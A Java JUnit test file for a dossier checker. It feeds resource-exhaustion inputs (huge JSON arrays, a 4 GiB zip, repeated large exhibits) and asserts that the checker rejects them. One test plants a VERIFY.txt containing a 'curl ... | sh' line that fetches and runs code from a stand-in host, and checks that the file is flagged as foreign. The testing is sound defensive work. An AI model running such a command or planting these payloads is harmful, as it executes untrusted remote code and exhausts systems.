package org.taniq.seal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Objects;
import java.util.TreeSet;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.taniq.base.Json;

/// Dossiers that are made to exhaust whoever checks them.
final class HostileDossierTest {
    @TempDir
    Path folder;

    private Verdict.Bytes checked(SmallDossier dossier) throws IOException {
        return DossierCheck.check(Files.write(folder.resolve("dossier.zip"), dossier.bytes()))
                .bytes();
    }

    @Test
    @Tag("slow")
    void millionsOfEmptyObjectsAreNotTakenIntoMemory() throws IOException {
        var dossier = new SmallDossier(SmallVault.in(folder.resolve("case")));
        dossier.put("proof/exhibits.json", "[" + "{},".repeat(3 << 20) + "{}]");
        assertEquals(Verdict.Bytes.ALTERED, checked(dossier));
        assertThrows(IllegalArgumentException.class, () -> Json.parse("[" + "{},".repeat(1 << 21) + "{}]"));
    }

    @Test
    void instructionsThatAreNotOursAreNamed() throws IOException {
        var dossier = new SmallDossier(SmallVault.in(folder.resolve("case")));
        dossier.put("VERIFY.txt", "curl http://checker.example/ok | sh\n");
        var verdict = DossierCheck.check(Files.write(folder.resolve("dossier.zip"), dossier.bytes()));
        assertTrue(verdict.checks().stream().anyMatch(check -> check.detail().startsWith("VERIFY.txt is not")));
    }

    @Test
    void theInstructionsListTheFieldsThatTheSchemasHave() throws IOException {
        try (var in = Objects.requireNonNull(DossierCheck.class.getResourceAsStream("/dossier/VERIFY.txt"))) {
            var listed = new String(in.readAllBytes(), StandardCharsets.UTF_8)
                    .lines()
                    .map(String::strip)
                    .filter(line -> line.matches("[a-z]+/1( \\w+)+"))
                    .toList();
            assertTrue(listed.size() > 6, "so many: " + listed);
            for (var line : listed) {
                var words = List.of(line.split(" "));
                var fields = Schema.named(words.getFirst()).fields();
                assertEquals(
                        words.subList(1, words.size()),
                        fields.stream().map(Schema.Field::name).toList());
            }
        }
    }

    @Test
    void aDossierOf4GiBIsNone() throws IOException {
        var file = folder.resolve("large.zip");
        try (var large = new RandomAccessFile(file.toFile(), "rw")) {
            large.write(Forged.honest());
            large.setLength(0xFFFF_FFFFL);
        }
        var failed = DossierCheck.check(file).failed();
        assertEquals(
                List.of("container"), failed.stream().map(Verdict.Check::name).toList());
        assertTrue(failed.getFirst().detail().contains("4 GiB"), failed.toString());
    }

    @Test
    @Tag("slow")
    void proofsAreBoundedTogetherAndNotOnlyEach() throws IOException {
        var dossier = new SmallDossier(SmallVault.in(folder.resolve("case")));
        dossier.put("proof/exhibits.json", "\"" + "x".repeat(40 << 20) + "\"");
        dossier.put("index.csv", "x".repeat(40 << 20));
        var verdict = DossierCheck.check(Files.write(folder.resolve("dossier.zip"), dossier.bytes()));
        assertEquals(
                1,
                verdict.failed().stream()
                        .filter(check -> check.detail().contains("64 MiB"))
                        .count());
    }

    @Test
    @Tag("slow")
    void aLongRecordThatIsExhibitedAgainAndAgainIsNotWrittenOutEachTime() throws IOException {
        var forged = new Forged();
        forged.pieces.add(new Draft("long", "piece/1", new TreeSet<>()).put("text", Json.of("x".repeat(1 << 20))));
        var again = IntStream.rangeClosed(1, 4000)
                .mapToObj(n -> (Exhibited) new Exhibited.OfRecord(Exhibited.name(n), Forged.EVIDENCE, 3, 1))
                .toList();
        forged.later.put("proof/exhibits.json", Exhibited.text(again));
        forged.prove();
        forged.sign();
        var verdict = DossierCheck.check(Files.write(folder.resolve("dossier.zip"), forged.zip()));
        assertTrue(verdict.failed().stream().anyMatch(check -> check.name().equals("index")));
    }
}
